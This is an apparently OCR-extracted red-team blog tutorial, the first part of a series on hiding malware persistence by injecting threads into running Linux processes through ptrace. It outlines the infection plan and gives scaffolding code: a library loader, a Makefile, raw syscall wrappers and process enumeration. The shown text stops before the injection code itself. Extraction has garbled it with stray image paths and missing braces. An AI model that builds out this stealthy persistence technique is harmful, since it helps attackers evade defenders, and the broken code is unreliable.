Cybersecurity blog header

Linux process infection

Among the different tasks that a Red Team should carry out, there is one that is remarkable by its intrinsic craftsmanship: putting an APT inside a computer system and ensuring its persistence. Unfortunately, most of this persistence mechanisms are based on keeping copies of an executable file in different locations, with one or more activation techniques (e.g. shell scripts, aliases, links, system boot scripts, etc.), and therefore a Blue Team’s security expert or a Threat Hunting team would only need to locate a working copy of the file and analyze it in his/her computer.

Although the security expert will find out what is going on sooner or later, it’s also true that some techniques can be implemented in order to difficult (or at least, delay) the detection of the APT in the infected machine. In this series of articles, we will detail a persistence mechanism based on the process tree instead of regular filesystem-based storage.


This technique will be carried out in a x86-64 GNU/Linux, although the theory could be easily extended to any operating system with a more or less complete debugging API. The requisites would be minimal: any modern GCC version would do the job.

Using the address space of other processes as warehouseThe intuition behind this technique is to use the address space of the running non-privileged processes as a storage area by injecting two threads in them: the first thread would try to infect the rest of processes, while the other will contain the payload (which, in this case, will just ensure file-system persistence). If the file is deleted, it will be restored with adifferent name.

It’s important to have in mind that this technique will be strongly limited by the machine´s uptime, and therefore it should be used in systems that are not intended to be frequently restarted. In other systems, it could be seen as a complementary persistence mechanism.

Shaping the injection

Obviously, one of the most critical phases of this technique is the code injection itself. As it’s impossible to know where the code will be placed beforehand in the victim’s address space, the code should be PIC (position-independent code). This suggests almost immediately the usage of dynamic libraries, as they can be laid out inmemory practically “as is”. However, this has some cons:

  • Most of the injected information will be metadata (headers and son on)
  • The code necessary to parse and load a library, although not being excessively complex, will not be negligible in comparison with the payload’s size
  • Shared libraries use a broadly known file format, and make the resulting file easily analyzable

Ideally, the injectionwould be as small as possible: a couple of code pages, maybe an additional page for data and that would be it. All this is possible with linker scripts. However, for this proof of concept, we will content ourselves with a shared library as “first container”.

Another restriction to have in mind is that the target process does not need to be loaded as a dynamic executable (and, therefore, the C library may not be dynamically loaded). Also, manual symbol resolution on a loaded shared library is painful, ABI-dependent and barely maintainable. This means that many standard C functions will be reimplemented by hand.

Also, this injection will be based on the ptrace system call. If the process is not privileged enough (or this feature is explicitly disabled by the administrator), this technique will simply not work.

And finally, restrictions on dynamic memory usage will show up too. The usage of dynamic memory involves dealing with the heap, whose internal structure is far from being standard. In general, it is not desirable to keep a large memory footprint in the program’s address space. Dynamic memory should be used seldom to reduce the footprint as much as possible.


This proof of concept will do the following:

  • The library will hold 2 entry points. The location of these entry points will be known beforehand (as they would be at fixed distance from the beginning of the executable) and will correspond to the beginning of the main function of the injected threads.• The infection thread will list every running process in the system, locating those that can be potentially attacked.
  • A ptrace(PTRACE_SEIZE) will be attempted against each process, and its memory read in order to detect whether it is already infected.
  • In order to prepare the target address space, system calls must be injected. These system calls must allocate the necessary memory pages to store the injected code.
  • Spawn both threads and continue the execution of the debugged process.

Each one of these phases requires some careful preparation that will be detailed in the following sections.

Preparing the environment

In order to keep the code as clean as possible, a small C program compiled as shared library will be used as starting point. Additionally, in order to run tests before the program is totally autonomous, another small C program that runs specific symbols in a library will be provided. In order to ease the overall development, a Makefile with all the build rules will be also included.

For the entry points of the injectable library, the following template will be used:

  /* Implement me */

  /* Implement me */

The program that will perform the initial execution of the entry points will be named “spawn.c” and will look like this:

#include<stdio.h>
#include <stdlib.h>
#include <dlfcn.h>

main(int argc, char *argv[])
  void *handle;
  void (*entry)(void);

  if (argc != 3) {
    fprintf(stderr, "Usagen%s file symboln", argv[0]);

  if ((handle = dlopen(argv[1], RTLD_NOW)) == NULL) {
    fprintf(stderr, "%s: failed to load %s: %sn", argv[0], argv[1], dlerror());

  if ((entry = dlsym(handle, argv[2])) == NULL) {
    fprintf(stderr, "%s: symbol `%s' not found in %sn", argv[0], argv[2], argv[1]);

  printf("Symbol `%s' found in %p. Jumping to function...n", argv[2], entry);

  (entry) ();

  printf("Function returned!n");

  return 0;

And finally, the Makefile that will compile both programs will be the following:

INF_CFLAGS=--shared -fPIE -fPIC -nostdlib

all : spawn : injectable.c
        $(CC) $(INF_CFLAGS) injectable.c -o

spawn : spawn.c
        $(CC) spawn.c -o spawn -ldl

And it will be enough by running make to compile everything:

% make
% ./spawn ./ propagate
Symbol `propagate' found in 0x7ffff76352ea. Jumping to function...
Function returned!

System calls

One noticeable apect about the Makefile above is that is being compiled with -nostdlib (this was a requisite), and therefore we will not have access to the high level C system call interface. To overcome this restriction, a set of hybrid C and inline assembly will be needed in order to interact with the operating system.

As general rule, x86-64 Linux system calls are performed through the syscall instruction (while in older x86 systems interrupt 0x80 was used instead). In any case, the underlying idea is the same: registers are populated with system callarguments and then the system is called via some special instruction. The contents of %rax are initialized with the system call function code, and its arguments are passed in order %rdi, %rsi, %rdx, %r10, %r8 and %r9. The return value is stored in %rax, and errors are signaled with a negative return value (which corresponds to the inverted errno value). So, a simple “hello world” in assembly using the write() system call may look like this:

    movq $1, %rax             // Syscall code for write(): 1
    movq $1, %rdi             // Arg 1: File descriptor (stdout)
    leaq %rip(greeting), %rsi // Arg 2: Buffer address
    movq $12, %rdx            // Arg 3: size (12 bytes)
    syscall                   // All set, call the kernel
greeting: .ascii "Hello worldn"

Using assembly code in C is rather easy thanks to the inline assembly syntax of GCC, and due to its expressivity, it can be condensed in a single sentence. A write wrapper for GCC can be reduced to:

#include <unistd.h>
#include <syscall.h>write(int fd, const void *buffer, size_t size)
  size_t result;
  asm volatile("syscall" : "=a" (result) : "a" (__NR_write), "S" (fd), "D" (buffer), "d" (size);
  return result;

The values passed after “syscall” specify how registers should be initialized before executing the assembly code. In this case, %rax (specifier “a”) is initialized with __NR_write (a macro that expands to the system call code for write, as defined in syscall.h), %rdi (specifier “D”) with the buffer address and %rsi (specifier “S”) with the string size. The returned value is collected back in %rax (specifier “=a”, the equals sign means that “result” is a write only value and the compiler should not worry about its initial value).

Since string parsing is a common task in many programs and this one will not be an exception, it’s convenient now to write an implementation of strlen (following the prototype in string.h) to measure string lengths:

strlen(const char *buffer)size_t len = 0;

  while (*buffer++)

  return len;

Which allows the definition of the following macro:

#define puts(string) write(1, string, strlen(string))

Which provides a simple way to display debug messages in the standard output:

  puts("This is persist()n");

  puts("This is propagate()n");

And once run, they should produce the following output:

% ./spawn ./ persist
Symbol `persist' found in 0x7f3eb58403be. Jumping to function...
This is persist()
Function returned!
% ./spawn ./ propagate
Symbol `propagate' found in 0x7fb8874403db. Jumping to function...
This is propagate()
Function returned!

And therefore, the first difficulty would be resolved: from now on, for any missing system call functionality, a corresponding C wrapper should be implemented, and required library functions (like strlen) should be implemented following their corresponding standard header prototypes as we need them.

Enumerating processesIn order to inject the malicious code in other processes, the first step is to be aware of the available processes in the system. There are two ways to do this:

  • Accessing /proc and listing all directories, or
  • Probe all system PIDs with kill, from PID 2 to a given PID_MAXAlthough the first method seems the fastest, it is also the most complex because:

  1. /proc may not be even mounted.
  2. Linux lacks an opendir/readdir system call pair to deal with directories. It is actually based on open / getdents, returning the latter a buffer of variable size structures that should be processed manually.
  3. Filenames must be convertedto integer manually in order to extract the PID they refer to. Because we don’t have access to library function, such conversion feature should also be implemented manually.

The second method, even though slower in appearance, works in practically every modern operating system. In this method, kill is called several times with signal 0 in a range of PIDs, which returns 0 if the PID exists and the calling process can send signals to it (which in turn is related on how privileged the calling process is), or an error code otherwise.

The only unknown here is the PID_MAX which is not necessarily the same for every system.Fortunately, in the vast majority of cases, PID_MAX is set to its default value (32768). Since kill is very fast when no signal is sent, calling kill 33000 times seems feasible.

In order to use this technique, a wrapper for kill will be necessary. A loop will traverse all possible PIDs between 2 and 32768 (as PID 1 is reserved for init), and print a message for every process found:

kill(pid_t pid, int sig)
  int result;
  asm volatile("syscall" : "=a" (result) : "a" (__NR_kill), "D" (pid), "S" (sig));
  return result;

At this point, it is interesting to write down a function to print numbers in base 10:

puti(unsigned int num)
  unsigned int max = 1000000000;
  char c;
  unsigned int msd_found = 0;
  while (max > 0) {
    c = '0' + num / max;
    msd_found |= c != '0' || max == 1;

    if (msd_found)
      write(1, &c, 1);num %= max;
    max /= 10;

And what remains now is to modify propagate() in order to carry out the enumeration:

  pid_t pid;
  for (pid = 2; pid < PID_MAX; ++pid) if (kill(pid, 0) >= 0) {
      puts("Process found: ");

After compiling, we should expect a result like this:

% ./spawn ./ propagate
Process found: 1159
Process found: 1160Process found: 1166
Process found:1167
Process found: 1176
Process found: 1324
Process found: 1328
Process found: 1352

